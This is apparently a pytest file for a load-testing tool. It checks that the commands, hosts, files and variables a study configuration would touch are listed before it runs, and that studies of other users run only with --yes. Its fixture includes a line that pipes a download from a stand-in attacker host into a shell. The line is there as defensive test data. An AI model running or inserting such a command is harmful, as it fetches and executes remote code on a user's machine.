"""What a study runs and touches is said before, and a study of somebody else's runs only where one agrees."""

import os
import tomllib
from pathlib import Path

import pytest

from loadcurve.runs.own_runs import why_not_own
from loadcurve.study.bundled import bundled_studies
from loadcurve.study.effects import effects_of
from support.command import Command

STUDY = """\
title = "Of everything"
claims = "claims.toml"
[content]
folder = "site"
[load]
model = "closed"
requests = "paths.txt"
body = "@body.bin"
connections = 1
headers = { Authorization = { env = "TOKEN", prefix = "Bearer " }, Cookie = { file = "cookie" } }
tls = { verify = "ca.pem", certificate = "me.pem", key = "me.key", key_log = "keys.log" }
generator = "wrk"
[published]
file = "published.toml"
[machines.far]
ssh = "bench@web.example"
address = "10.0.0.5"
[servers.nginx]
workers = 2
[servers.mine]
use = "command"
start = ["sh", "-c", "curl evil.example | sh", "{port}"]
version_command = ["touch", "ran"]
environment = { PORT = "{port}", SECRET = { env = "GIVEN" } }
run_arguments = ["--privileged"]
[servers.old]
use = "nginx"
engine = "podman"
image = "docker.io/library/nginx:1.0"
[servers.database]
use = "url"
url = "postgresql://me:se-cret@db.example/app"
password = { file = "password" }
"""
EXPECTED = {
    "command": {
        "the load generator wrk",
        "the catalogue's nginx",
        "sh -c 'curl evil.example | sh' '{port}'",
        "touch ran",
        "--privileged",
        "a container of the image docker.io/library/nginx:1.0",
    },
    "host": {"bench@web.example", "10.0.0.5", "postgresql://db.example/app"},
    "file": {
        *("claims.toml", "site", "paths.txt", "body.bin", "cookie", "ca.pem", "me.pem", "me.key"),
        *("keys.log", "published.toml", "password"),
    },
    "variable": {"TOKEN", "GIVEN", "PORT, set for mine", "SECRET, set for mine"},
}

RUNS = """\
title = "Runs a command"
[content]
"1k.txt" = "1KiB"
[load]
model = "closed"
requests = ["/1k.txt"]
duration = "100ms"
[sweep]
connections = [1]
[trials]
count = 1
[servers.mine]
use = "command"
start = ["false", "{port}"]
version_command = ["touch", "RAN"]
"""


def test_programs_catalogs_and_blocks_of_configuration_are_named():
    study = """
catalog = "mine"
[servers.app]
[[servers.app.programs]]
name = "data"
start = "db --port {port}"
environment = { LEVEL = "1" }
[servers.nginx]
blocks = { pages = "gzip on;\\n  perl x;" }
"""
    found = {(one.kind, one.name, one.where) for one in effects_of(tomllib.loads(study))}
    assert found == {
        ("command", "those of the descriptions of servers in mine", "catalog"),
        ("command", "db --port {port}", "servers.app.programs.start"),
        ("variable", "LEVEL, set for data of app", "servers.app.programs.environment"),
        ("command", "the catalogue's nginx", "servers.nginx"),
        ("command", "in the server's configuration: gzip on; perl x;", "servers.nginx.blocks.pages"),
    }


def test_commands_hosts_files_and_variables_are_read_from_the_text():
    found = effects_of(tomllib.loads(STUDY))
    assert {kind: {one.name for one in found if one.kind == kind} for kind in EXPECTED} == EXPECTED
    [start] = [one for one in found if one.name.startswith("sh -c")]
    assert start.where == "servers.mine.start"


def test_a_login_is_in_no_effect():
    assert not any("se-cret" in one.name for one in effects_of(tomllib.loads(STUDY)))


@pytest.mark.parametrize("name", list(bundled_studies()))
def test_a_bundled_study_is_read_and_is_trusted(name):
    file = bundled_studies()[name]
    assert effects_of(tomllib.loads(file.read_text()))
    assert why_not_own(file) is None


@pytest.fixture
def study(tmp_path, monkeypatch):
    """A study that shows whether it was run, by the file RAN, in a folder of its own."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    file = tmp_path / "given" / "study.toml"
    file.parent.mkdir()
    file.write_text(RUNS.replace("RAN", str(tmp_path / "ran")))
    file.chmod(0o644)
    return file


def came_from_a_run(study: Path) -> None:
    (study.parent / "run.json").write_text("{}")


def may_be_written_by_all(study: Path) -> None:
    study.chmod(0o666)


def is_of_another_user(study: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root, to give a file away")
    os.chown(study, 65534, 65534)


OTHERS = {
    came_from_a_run: "in a run folder that you have not made",
    may_be_written_by_all: "every user may write to it",
    is_of_another_user: "it belongs to the user",
}


@pytest.mark.parametrize("command", [["run"], ["capacity", "--slo", "p99<1s"], ["crosscheck"]])
@pytest.mark.parametrize("make", OTHERS)
def test_a_study_of_somebody_elses_is_listed_and_not_run_unless_one_agrees(study, tmp_path, make, command):
    make(study)
    refused = Command(tmp_path).run(*command, str(study))
    said = " ".join(refused.stderr.split())
    assert refused.returncode == 2
    assert OTHERS[make] in said
    assert "repeat the command with --yes" in said
    assert f"touch {tmp_path / 'ran'}" in said
    assert not (tmp_path / "ran").exists(), "nothing of it was run"
    agreed = Command(tmp_path).run(*command, str(study), "--yes")
    assert "may be of somebody else's making" not in agreed.stderr
    assert (tmp_path / "ran").exists() or command[0] == "capacity", "a search refuses it for its sweep"


def test_a_study_of_ones_own_runs_without_a_question(study, tmp_path):
    said = Command(tmp_path).run("run", str(study)).stderr
    assert "--yes" not in said
    assert (tmp_path / "ran").exists()


def test_a_check_lists_what_a_run_would_touch_and_runs_nothing(study, tmp_path):
    checked = Command(tmp_path).run("studies", "check", str(study))
    assert checked.returncode == 0
    assert f"touch {tmp_path / 'ran'}  [servers.mine.version_command]" in checked.stdout
    assert not (tmp_path / "ran").exists()


def test_a_run_folder_is_no_study(study, tmp_path):
    came_from_a_run(study)
    refused = Command(tmp_path).run("run", str(study.parent))
    assert refused.returncode == 2
    assert "is a run folder, and not a study" in " ".join(refused.stderr.split())
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("key", "place"),
    [("connect_to", "10.0.0.5:80"), ("proxy", "http://10.0.0.5:3128"), ("unix_socket", "/run/app.sock")],
)
def test_where_a_load_goes_instead_of_the_url_is_a_host_that_is_said(key, place):
    study = tomllib.loads(f'[servers.a.load]\n{key} = "{place}"\n')
    said = [(one.kind, one.name, one.where) for one in effects_of(study)]
    assert ("host", place, f"servers.a.load.{key}") in said
